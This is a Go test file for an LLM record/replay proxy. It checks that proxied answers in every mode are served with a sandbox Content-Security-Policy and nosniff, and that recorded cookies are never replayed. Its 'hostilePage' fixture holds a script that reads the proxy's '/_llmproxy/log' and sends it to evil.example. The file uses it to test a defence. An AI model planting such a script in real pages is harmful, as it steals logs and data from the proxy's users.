package proxy_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"

	"github.com/llmproxy/llmproxy/cassette"
	"github.com/llmproxy/llmproxy/proxy"
	"github.com/llmproxy/llmproxy/store"
	"github.com/llmproxy/llmproxy/wire"
)

// hostilePage is a recorded answer that would read the proxy's own API if
// a browser ran it on the proxy's origin.
const hostilePage = `<!doctype html><script>fetch('/_llmproxy/log').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script>`

// pageUpstream answers GET /page with hostilePage as text/html, a cookie and
// a policy of its own, /fail with a 500, and chat completions as JSON or,
// when the body asks for a stream, as SSE.
func pageUpstream(t *testing.T) *httptest.Server {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		h := w.Header()
		switch {
		case r.URL.Path == "/page":
			h.Set("Content-Type", "text/html; charset=utf-8")
			h.Set("Set-Cookie", "s="+canary+"; Path=/_llmproxy/")
			h.Set("Content-Security-Policy", "default-src 'self'")
			_, _ = io.WriteString(w, hostilePage)
		case r.URL.Path == "/fail":
			h.Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusInternalServerError)
			_, _ = io.WriteString(w, `{"error":{"message":"down","type":"server_error"}}`)
		case strings.Contains(string(body), `"stream":true`):
			h.Set("Content-Type", "text/event-stream")
			_, _ = io.WriteString(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"choices\":[{\"index\":0,\"delta\":{\"content\":\"hi\"}}]}\n\ndata: [DONE]\n\n")
		default:
			h.Set("Content-Type", "application/json")
			_, _ = io.WriteString(w, `{"id":"c1","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"hi"},"finish_reason":"stop"}]}`)
		}
	}))
	t.Cleanup(srv.Close)
	return srv
}

// sandboxRequest is one request of TestProxiedAnswersAreSandboxed.
type sandboxRequest struct {
	name, method, path, body string
	header                   []string
	status                   int
}

func sandboxRequests(chat string) []sandboxRequest {
	const stream = `{"model":"gpt-4o-mini","stream":true,"messages":[{"role":"user","content":"hi"}]}`
	return []sandboxRequest{
		{name: "JSON", method: http.MethodPost, path: "/v1/chat/completions", body: chat, status: 200},
		{name: "SSE", method: http.MethodPost, path: "/openai/v1/chat/completions", body: stream, status: 200},
		{name: "text/html", method: http.MethodGet, path: "/page", status: 200},
		{name: "upstream error", method: http.MethodGet, path: "/fail", status: 500},
	}
}

// TestProxiedAnswersAreSandboxed: every answer to a proxied request — in
// record, replay, auto and mock; JSON, SSE, HTML; errors, misses and
// refusals — carries Content-Security-Policy: sandbox and
// X-Content-Type-Options: nosniff, so that a recorded page never runs as
// the proxy's origin (where it could read /_llmproxy/). An upstream's own
// policy is kept beside it, and a cookie is never replayed.
func TestProxiedAnswersAreSandboxed(t *testing.T) {
	up := pageUpstream(t)
	path := cassettePath(t)
	chat := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}`
	check := func(t *testing.T, what string, resp *http.Response, body []byte) {
		t.Helper()
		if csp := resp.Header.Values("Content-Security-Policy"); !slices.Contains(csp, "sandbox") {
			t.Errorf("%s: Content-Security-Policy %q, want one policy \"sandbox\" (%d %s)", what, csp, resp.StatusCode, body)
		}
		if got := resp.Header.Values("X-Content-Type-Options"); !slices.Equal(got, []string{"nosniff"}) {
			t.Errorf("%s: X-Content-Type-Options %q, want nosniff", what, got)
		}
	}
	do := func(t *testing.T, base string, rq sandboxRequest) (*http.Response, []byte) {
		t.Helper()
		req, err := http.NewRequest(rq.method, base+rq.path, strings.NewReader(rq.body))
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Content-Type", "application/json")
		for i := 0; i+1 < len(rq.header); i += 2 {
			req.Header.Set(rq.header[i], rq.header[i+1])
		}
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		return resp, b
	}
	refusals := []sandboxRequest{
		{name: "body not JSON", method: http.MethodPost, path: "/v1/chat/completions", body: `{"model":`, status: 400},
		{name: "reserved prefix escaped", method: http.MethodGet, path: "/%5fllmproxy/health", status: 400},
		{name: "body over --max-body", method: http.MethodPost, path: "/v1/chat/completions", body: `{"x":"` + strings.Repeat("a", 2048) + `"}`, status: 413},
	}
	small := func(c *proxy.Config) { c.MaxBody = 1024 }

	t.Run("record", func(t *testing.T) {
		h := startProxy(t, proxy.ModeRecord, path, up.URL, small)
		for _, rq := range append(sandboxRequests(chat), refusals...) {
			resp, b := do(t, h.URL(), rq)
			if resp.StatusCode != rq.status {
				t.Errorf("%s: status %d, want %d: %s", rq.name, resp.StatusCode, rq.status, b)
			}
			check(t, rq.name, resp, b)
			if rq.name == "text/html" && !slices.Contains(resp.Header.Values("Content-Security-Policy"), "default-src 'self'") {
				t.Errorf("the upstream's own policy was dropped: %q", resp.Header.Values("Content-Security-Policy"))
			}
		}
		settle(t, h.URL(), 4)
		h.stop()
	})
	for _, mode := range []proxy.Mode{proxy.ModeReplay, proxy.ModeAuto} {
		t.Run(mode.String(), func(t *testing.T) {
			h := startProxy(t, mode, path, up.URL, small)
			miss := sandboxRequest{name: "miss", method: http.MethodPost, path: "/v1/chat/completions",
				body: `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"never recorded"}]}`, status: 200}
			if mode == proxy.ModeReplay {
				miss.status = 400 // auto records it instead
			}
			for _, rq := range append(append(sandboxRequests(chat), miss), refusals...) {
				resp, b := do(t, h.URL(), rq)
				if resp.StatusCode != rq.status {
					t.Errorf("%s: status %d, want %d: %s", rq.name, resp.StatusCode, rq.status, b)
				}
				check(t, rq.name, resp, b)
				if c := resp.Header.Values("Set-Cookie"); len(c) > 0 {
					t.Errorf("%s: a recorded cookie was replayed: %q", rq.name, c)
				}
			}
		})
	}
	t.Run("mock", func(t *testing.T) {
		m := startMock(t, []string{weatherScenario}, small)
		weather := `{"model":"gpt-4o-mini","messages":[{"role":"user","content":"What's the weather in Paris?"}]}`
		for _, rq := range append([]sandboxRequest{
			{name: "scripted JSON", method: http.MethodPost, path: "/v1/chat/completions", body: weather, status: 200},
			{name: "scripted SSE", method: http.MethodPost, path: "/v1/chat/completions", body: strings.Replace(weather, `{`, `{"stream":true,`, 1),
				header: []string{proxy.ConversationHeader, "streamed"}, status: 200},
			{name: "miss", method: http.MethodPost, path: "/v1/chat/completions", body: chat, status: 400},
		}, refusals...) {
			resp, b := do(t, m.srv.URL, rq)
			if resp.StatusCode != rq.status {
				t.Errorf("%s: status %d, want %d: %s", rq.name, resp.StatusCode, rq.status, b)
			}
			check(t, rq.name, resp, b)
		}
	})
}

// TestRecordedCookieNeverReplays serves a crafted (or old) cassette whose
// recorded answer holds cookies, in any spelling of the header's name: the
// page is served sandboxed and without any of them.
func TestRecordedCookieNeverReplays(t *testing.T) {
	path := cassettePath(t)
	craft(t, path, &cassette.Interaction{
		Upstream: "openai", Provider: "openai", Kind: string(wire.KindGeneric),
		Request: cassette.Request{Method: http.MethodGet, Path: "/page"},
		Response: cassette.Response{Status: 200, Body: []byte(hostilePage), Headers: http.Header{
			"Content-Type":            {"text/html"},
			"Set-Cookie":              {"llmproxy_session=" + canary + "; Path=/_llmproxy/"},
			"set-cookie":              {"b=" + canary + "; Path=/"},
			"Set-Cookie2":             {"c=" + canary},
			"x-content-type-options":  {"sniff-away"},
			"Content-Security-Policy": {"script-src *"},
		}},
	})
	h := startProxy(t, proxy.ModeReplay, path, "")
	resp, err := http.Get(h.URL() + "/openai/page")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(b) != hostilePage {
		t.Fatalf("replay: %d %s", resp.StatusCode, b)
	}
	for k, vs := range resp.Header {
		if strings.Contains(fmt.Sprint(vs), canary) {
			t.Errorf("a recorded cookie was replayed: %s: %q", k, vs)
		}
	}
	if csp := resp.Header.Values("Content-Security-Policy"); !slices.Contains(csp, "sandbox") {
		t.Errorf("Content-Security-Policy %q, want \"sandbox\" among them", csp)
	}
	if got := resp.Header.Values("X-Content-Type-Options"); !slices.Equal(got, []string{"nosniff"}) {
		t.Errorf("X-Content-Type-Options %q, want nosniff alone", got)
	}
}

// craft writes interactions to a new cassette at path as they are, with no
// redaction: what a damaged, old or hand-made cassette may hold.
func craft(t *testing.T, path string, is ...*cassette.Interaction) {
	t.Helper()
	c, err := cassette.Open(path, cassette.Options{Version: "test"})
	if err != nil {
		t.Fatal(err)
	}
	x, err := cassette.DefaultIndexer()
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Replace(&cassette.Contents{Meta: store.Meta{IndexRules: x.Fingerprint()}, Interactions: is}, x.Keys); err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
}
